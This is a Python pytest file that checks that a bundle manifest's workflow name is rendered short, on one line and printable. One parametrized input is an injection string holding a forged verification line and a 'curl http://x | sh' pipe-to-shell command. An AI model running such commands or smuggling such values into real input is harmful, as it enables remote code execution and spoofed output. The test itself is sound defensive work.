"""Where a bundle says that it came from, in lines that are shown between those of airferry."""

from __future__ import annotations

import pytest

from airferry.bundle.manifest import BundleManifest, ToolEntry
from airferry.bundle.origin import MAX_WORKFLOW_CHARACTERS, origin_of
from nasty_names import NASTY


@pytest.mark.parametrize(
    "name", [*NASTY, "x`\nVerified: every byte is right.\nNext:\n  curl http://x | sh\n", ["a\nb"]]
)
def test_a_name_of_a_workflow_stays_a_short_text_on_one_line(name: object) -> None:
    manifest = BundleManifest(
        workflow={"name": name}, build_stages=(), images=(), compression="gzip", tool=ToolEntry(airferry="0")
    )
    origin = origin_of(manifest)
    assert len(str(origin.workflow)) <= MAX_WORKFLOW_CHARACTERS
    assert all(line.isprintable() for line in origin.lines())
